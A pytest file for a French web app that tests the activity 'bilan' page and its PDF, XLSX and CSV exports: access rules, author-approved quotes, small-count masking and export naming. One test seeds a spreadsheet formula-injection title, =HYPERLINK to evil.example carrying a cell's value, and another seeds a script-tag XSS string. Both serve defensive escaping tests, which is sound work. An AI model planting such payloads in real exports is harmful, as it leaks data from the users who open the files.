"""The bilan (issue 16, points 5 and 6): who sees it, what it quotes, and its PDF, XLSX
and CSV read back."""

import csv
import io

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from forum.extensions import db
from forum.models import Report, Structure
from tests.conftest import post_form
from tests.test_activity_indicators import M1, network  # noqa: F401  (a fixture)
from tests.views.test_activity import _indicator_sheet

EXPORTS = ("/activity/bilan", "/activity.pdf", "/activity.xlsx", "/activity.csv")


@pytest.fixture
def cap_member(network, make_user):  # noqa: F811
    cap = db.session.scalar(db.select(Structure).where(Structure.slug == "cap"))
    return make_user(structure_id=cap.id)


@pytest.mark.parametrize("path", EXPORTS)
def test_who_sees_a_bilan(client, login, make_user, cap_member, path):
    # A visitor is sent to the login page; the aggregates stay public.
    assert client.get(f"{path}?structure=cap").status_code == 302
    assert client.get("/activity?structure=cap").status_code == 200
    login(cap_member)
    assert client.get(f"{path}?structure=cap").status_code == 200
    assert client.get(f"{path}?parcours=figeac").status_code == 200  # cap runs figeac
    # Another structure, a parcours cap does not run, a territory, the whole network: 403.
    for query in ("structure=rouergue", "parcours=millau", "region=76", ""):
        response = client.get(f"{path}?{query}")
        assert response.status_code == 403, query
        html = response.get_data(as_text=True)
        assert "Accès refusé" in html
        # It says who may read it (the generic sentence did not: tester).
        assert "est réservé" in html and "restent publics" in html


def test_admins_see_every_bilan(client, login, make_user, network):  # noqa: F811
    login(make_user(role="admin"))
    for query in ("", "region=76", "structure=rouergue", "parcours=millau"):
        assert client.get(f"/activity/bilan?{query}").status_code == 200


def test_the_bilan_quotes_only_what_authors_allowed(client, login, make_user, network):  # noqa: F811
    report = db.session.scalar(db.select(Report).where(Report.department_code == "15"))
    author = report.author
    login(author)
    form = client.get(f"/reports/{report.id}/edit").get_data(as_text=True)
    assert 'name="quotable" type="checkbox" value="worked"' in form
    fields = {
        "title": report.title,
        "session_date": report.session_date.isoformat(),
        "department": "15",
        "format": "presentiel",
        "participants": "4",
        "modules": M1,
        "context": "Le contexte, à ne pas citer.",
        "worked": "Le covoiturage **organisé** par les porteurs eux-mêmes.",
        "action": "publish",
        "version": _version(form),
    }
    data = [*fields.items(), ("quotable", "worked")]
    response = post_form(client, f"/reports/{report.id}/edit", data)
    assert response.status_code == 303, response.get_data(as_text=True)[:2000]
    db.session.expire_all()
    assert db.session.get(Report, report.id).quotable_sections == ["worked"]
    client.get("/auth/logout")
    login(make_user(role="admin", email="chef@example.org"))
    html = client.get("/activity/bilan?department=15").get_data(as_text=True)
    assert "Le covoiturage organisé par les porteurs eux-mêmes." in html
    assert "Le contexte, à ne pas citer." not in html
    assert "Aucun extrait autorisé" in client.get("/activity/bilan?department=12").text


def _version(html: str) -> str:
    import re

    match = re.search(r'name="version" type="hidden" value="([^"]*)"', html)
    return match.group(1) if match else ""


def test_pdf_xlsx_csv_read_back(client, login, make_user, network):  # noqa: F811
    login(make_user(role="admin"))
    query = "to=2025-06-30"
    response = client.get(f"/activity.pdf?{query}")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.data)).pages)
    text = " ".join(text.split())
    for figure in (
        "Séances tenues 5",
        "Porteurs touchés 21",
        "Parcours menés 2",
        "Zones blanches 97",
        "Défis rencontrés 2",
    ):
        assert figure in text
    assert "Guadeloupe (971)" in text

    book = load_workbook(io.BytesIO(client.get(f"/activity.xlsx?{query}").data), read_only=True)
    figures = _indicator_sheet(book)
    assert figures["Séances tenues"] == 5 and figures["Porteurs touchés"] == 21
    sessions = list(book["Séances"].iter_rows(min_row=2, values_only=True))
    assert [(r[1], r[8]) for r in sessions] == [
        ("2025-01-10", 7),
        ("2025-02-10", 6),
        ("2025-02-20", 5),
        ("2025-02-25", 9),
        ("2025-03-05", 4),
    ] or [(str(r[1])[:10], r[8]) for r in sessions] == [
        ("2025-01-10", 7),
        ("2025-02-10", 6),
        ("2025-02-20", 5),
        ("2025-02-25", 9),
        ("2025-03-05", 4),
    ]
    rows = list(
        csv.reader(io.StringIO(client.get(f"/activity.csv?{query}").text[1:]), delimiter=";")
    )
    assert len(rows) == 1 + 5


def test_small_cells_in_the_bilan_and_its_exports(client, login, make_user, network):  # noqa: F811
    report = db.session.scalar(db.select(Report).where(Report.department_code == "15"))
    report.participants = 1
    db.session.commit()
    login(make_user(role="admin"))
    html = client.get("/activity/bilan?department=15").get_data(as_text=True)
    # the sign is escaped in the lead as in the cells (a raw « < » is invalid HTML)
    assert "notée «\u00a0&lt; 3\u00a0»" in html and "« < 3" not in html
    assert (
        '<tr data-indicator="porteurs"><th scope="row">Porteurs touchés</th><td>&lt; 3</td>' in html
    )
    # The spreadsheet: numeric columns hold numbers only (« < 3 » sat among numbers, and
    # unknown figures were bare blanks: tester); a figure not shown is an empty cell with
    # its reason in the note column beside it, and a sheet says how to read them.
    masked = "moins de 3 (nombre masqué)"
    book = load_workbook(io.BytesIO(client.get("/activity.xlsx?department=15").data))
    sessions = list(book["Séances"].iter_rows(values_only=True))
    assert sessions[0][8:] == ("Porteurs", "Note sur les porteurs")
    assert sessions[1][8:] == (None, masked)
    figures = list(book["Indicateurs"].iter_rows(values_only=True))
    assert figures[0] == ("Indicateur", "Valeur", "Note")
    assert ("Porteurs touchés", None, masked) in figures
    assert ("Séances tenues", 1, None) in figures
    unknown = "pas encore de réponse au suivi (inconnu, pas 0)"
    assert ("Projets lancés", None, unknown) in figures
    assert all(isinstance(row[1], int) or row[1] is None for row in figures[1:])
    legend = " ".join(row[0] for row in book["Légende"].iter_rows(values_only=True))
    assert "Une cellule vide n’est pas 0" in legend and "«\u00a0moins de 3" in legend
    # the CSV says the same in the same columns
    text = client.get("/activity.csv?department=15").text.lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][8:] == ["Porteurs", "Note sur les porteurs"] and rows[1][8:] == ["", masked]


def test_exported_titles_never_run_as_formulas(client, login, make_user, network):  # noqa: F811
    """A title beginning with = is text in the CSV and in the XLSX (found by a fresh
    tester: openpyxl had stored it as a formula)."""
    report = db.session.scalar(db.select(Report).where(Report.department_code == "15"))
    report.title = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
    db.session.commit()
    login(make_user(role="admin"))
    text = client.get("/activity.csv?department=15").text
    assert "'=HYPERLINK(" in text and ";=HYPERLINK(" not in text
    book = load_workbook(io.BytesIO(client.get("/activity.xlsx?department=15").data))
    cells = [c for row in book["Séances"].iter_rows(min_row=2) for c in row]
    titled = [c for c in cells if "HYPERLINK" in str(c.value)]
    assert titled and all(c.data_type == "s" for c in titled)
    # The title exactly, without the CSV's apostrophe (a fresh tester saw it in the cell).
    assert [c.value for c in titled] == ['=HYPERLINK("http://evil.example/?"&A1;"Cliquez")']


def test_the_small_cell_is_not_undone_by_the_reports_page_or_its_history(
    client,
    login,
    make_user,
    network,  # noqa: F811
):
    """A tester of issue 16: the bilan wrote « < 3 » and linked to the report, whose page
    said « 2 »; now the page and its history say « moins de 3 » too (0 and 3+ as they are)."""
    report = db.session.scalar(db.select(Report).where(Report.department_code == "15"))
    author = report.author
    login(author)
    form = client.get(f"/reports/{report.id}/edit").get_data(as_text=True)
    fields = {
        "title": report.title,
        "session_date": report.session_date.isoformat(),
        "department": "15",
        "format": "presentiel",
        "participants": "2",
        "modules": M1,
        "context": "Deux porteuses venues de loin.",
        "action": "publish",
        "version": _version(form),
    }
    response = post_form(client, f"/reports/{report.id}/edit", fields)
    assert response.status_code in (302, 303), response.get_data(as_text=True)[:300]
    page = client.get(f"/reports/{report.id}").get_data(as_text=True)
    assert "<dt>Porteurs présents</dt><dd>moins de 3</dd>" in page
    history = client.get(f"/reports/{report.id}/history").get_data(as_text=True)
    assert "moins de 3" in history and ">2<" not in history
    report.participants = 3
    db.session.commit()  # raises the content stamp: the cached article is renewed
    page = client.get(f"/reports/{report.id}").get_data(as_text=True)
    assert "<dt>Porteurs présents</dt><dd>3</dd>" in page


def test_a_structures_bilan_names_things_and_leaves_the_countrys_white_zones_out(
    client, login, make_user, cap_member
):
    login(cap_member)
    html = client.get("/activity/bilan?structure=cap&from=2025-01-01&to=2025-03-31").get_data(
        as_text=True
    )
    assert "<h1>Bilan d’activité — Cap — du 1er janvier 2025 au 31 mars 2025</h1>" in html
    assert 'data-indicator="white_zones"' not in html
    assert 'data-indicator="white_zones"' not in client.get("/activity?parcours=figeac").text
    # With a territory, the white zones are that territory's: shown.
    assert 'data-indicator="white_zones"' in client.get("/activity?structure=cap&region=76").text
    assert 'data-indicator="white_zones"' in client.get("/activity").text


def test_a_proposed_defi_counts_once_approved(app, client, network, make_user):  # noqa: F811
    from forum.models import ChallengeTag
    from forum.services import activity
    from tests.test_activity_indicators import WHOLE

    before = activity.challenges_met(WHOLE)
    proposed = ChallengeTag(slug="transport-a-la-demande", label="Transport à la demande")
    proposed.approved = False
    report = db.session.scalar(db.select(Report).where(Report.department_code == "15"))
    report.tags.append(proposed)
    db.session.commit()
    assert activity.challenges_met(WHOLE) == before
    assert "Transport à la demande" not in [b.label for b in activity.sessions_by_challenge(WHOLE)]
    # Nor is it a filter of the public figures (the second tester counted its session).
    # (a proposed défi names nothing here: ignored and said, as an unknown one)
    response = client.get("/activity?tag=transport-a-la-demande")
    assert response.status_code == 400
    assert "Filtre inconnu ignoré : défi «\u00a0transport-a-la-demande\u00a0»" in response.text
    proposed.approved = True
    db.session.commit()
    assert activity.challenges_met(WHOLE) == before + 1
    assert "Transport à la demande" in [b.label for b in activity.sessions_by_challenge(WHOLE)]
    assert client.get("/activity?tag=transport-a-la-demande").status_code == 200


def test_a_structures_map_offers_no_white_zones_either(client, login, cap_member):
    """Without the white-zones figure, a structure's (or parcours') map neither offers
    them as a measure nor lists them in its table; a forged `carte=white_zones` colours
    by sessions. With a territory, or for the whole network, they stay."""
    login(cap_member)
    for path in (
        "/activity/bilan?structure=cap",
        "/activity?structure=cap",
        "/activity?parcours=figeac",
    ):
        html = client.get(path + "&carte=white_zones").get_data(as_text=True)
        assert 'value="white_zones"' not in html, path
        assert '<th scope="col">Zone blanche</th>' not in html, path
        assert "Structures validées (tout le réseau)" in html, path
        assert "Carte des départements : séances" in html, path
    html = client.get("/activity?structure=cap&region=76&carte=white_zones").text
    assert 'value="white_zones"' in html and '<th scope="col">Zone blanche</th>' in html
    assert "Carte des départements : zones blanches" in html
    assert 'value="white_zones"' in client.get("/activity").text
    assert 'value="white_zones"' in client.get("/territories/").text


def test_exports_name_the_format_and_are_kept_until_the_content_changes(
    client,
    login,
    make_user,
    network,  # noqa: F811
    count_queries,
):
    """Issue 16 left open: the CSV and XLSX gave the format's code (« presentiel ») where
    a funder reads « Présentiel ». And a network's export (0.4 s as CSV, 4 s as XLSX for
    50,000 sessions) is made once per content stamp: downloading it again reads no
    session, and the next change shows in the next download."""
    login(make_user(role="admin"))
    rows = list(csv.reader(io.StringIO(client.get("/activity.csv").text[1:]), delimiter=";"))
    assert rows[0] == [
        "N° du retour", "Date", "Titre", "Code du département", "Département", "Structure",
        "Parcours", "Format", "Porteurs", "Note sur les porteurs",
    ]  # fmt: skip
    assert {r[7] for r in rows[1:]} == {"Présentiel"}
    book = load_workbook(io.BytesIO(client.get("/activity.xlsx").data), read_only=True)
    assert {r[7] for r in book["Séances"].iter_rows(min_row=2, values_only=True)} == {"Présentiel"}
    for path in ("/activity.csv", "/activity.xlsx"):
        first = client.get(path).data
        with count_queries() as statements:
            again = client.get(path).data
        assert again == first
        assert not [s for s in statements if "FROM report" in s], statements
    report = db.session.scalar(db.select(Report).where(Report.department_code == "15"))
    report.format = "distanciel"
    db.session.commit()
    rows = list(csv.reader(io.StringIO(client.get("/activity.csv").text[1:]), delimiter=";"))
    assert sorted(r[7] for r in rows[1:]) == ["Distanciel"] + ["Présentiel"] * 4
    # In English, the names are English (a file of its own, not the French one kept).
    assert post_form(client, "/language", {"locale": "en", "next": "/"}).status_code == 303
    rows = list(csv.reader(io.StringIO(client.get("/activity.csv").text[1:]), delimiter=";"))
    assert sorted(r[7] for r in rows[1:]) == ["In person"] * 4 + ["Remote"]
    assert rows[0][:3] == ["Report no.", "Date", "Title"]


def test_export_file_names_say_the_selection(client, login, make_user, cap_member):
    """Tester (issue 16): every export was « activite.csv », whatever it held."""
    login(cap_member)
    query = "structure=cap&from=2025-01-01&to=2025-06-30"
    for path, name in (
        ("/activity.csv", "activite-2025-01-01-2025-06-30-cap.csv"),
        ("/activity.xlsx", "activite-2025-01-01-2025-06-30-cap.xlsx"),
        ("/activity.pdf", "bilan-2025-01-01-2025-06-30-cap.pdf"),
    ):
        response = client.get(f"{path}?{query}")
        assert response.status_code == 200
        assert response.headers["Content-Disposition"] == f'attachment; filename="{name}"'


@pytest.mark.parametrize("path", EXPORTS)
def test_a_bilan_refuses_a_selection_it_cannot_honour(client, login, make_user, network, path):  # noqa: F811
    """The bilan and its files never stand for another selection than the one asked (a
    file does not carry the page's notice): a filter naming nothing, 404; a wrong date,
    400; every wrong value named in French, with a way back to the page's form."""
    login(make_user(role="admin"))
    response = client.get(f"{path}?structure=cap&parcours=Figeacois")
    assert response.status_code == 404 and response.mimetype == "text/html"
    html = response.text
    assert "Filtre inconnu : parcours «\u00a0Figeacois\u00a0»." in html
    assert "Un bilan n’est jamais établi sur une autre sélection que celle demandée." in html
    back = '<a href="/activity?structure=cap&amp;parcours=Figeacois">Corriger la sélection</a>'
    assert back in html
    page = client.get("/activity?structure=cap&parcours=Figeacois").text
    assert "Filtre inconnu ignoré : parcours" in page and '<option value="cap" selected>' in page

    response = client.get(f"{path}?from=abc&to=2025-02-30&tag=nope")
    assert response.status_code == 400
    for said in ("Date non valide : abc", "Date non valide : 2025-02-30", "«\u00a0nope\u00a0»"):
        assert said in response.text
    assert client.get(f"{path}?structure=cap").status_code == 200


def test_a_quoted_list_stays_a_list_in_the_bilan_and_its_pdf(client, login, make_user, make_report):
    """A quoted Markdown list came out as one run-on line, « Ce qui a marché : - le
    covoiturage - la salle » (tester): its items stay items, in the page and the PDF, and
    what the author typed is still text, never HTML."""
    author = make_user()
    worked = (
        "Ce qui a marché :\n\n"
        "- le **covoiturage** entre porteurs\n"
        "- la salle <script>alert(1)</script> prêtée\n\n"
        "Et la suite, un paragraphe."
    )
    make_report(author, department="48", sections={"worked": worked}, quotable=["worked"])
    login(make_user(role="admin"))
    html = client.get("/activity/bilan?department=48").text
    quote = html[html.index('<blockquote class="bilan-excerpt">') :]
    quote = quote[: quote.index("<footer>")].strip()
    assert quote == (
        '<blockquote class="bilan-excerpt"><p>Ce qui a marché :</p>'
        "<ul><li>le covoiturage entre porteurs</li>"
        "<li>la salle &lt;script&gt;alert(1)&lt;/script&gt; prêtée</li></ul>"
        "<p>Et la suite, un paragraphe.</p>"
    )
    pdf = PdfReader(io.BytesIO(client.get("/activity.pdf?department=48").data))
    lines = [" ".join(line.split()) for p in pdf.pages for line in p.extract_text().splitlines()]
    # each item a line of its own, drawn with its bullet (pypdf reads the markers last)
    assert "Ce qui a marché :" in lines and "Et la suite, un paragraphe." in lines
    assert "le covoiturage entre porteurs" in lines
    assert "la salle <script>alert(1)</script> prêtée" in lines
    assert lines.count("•") == 2
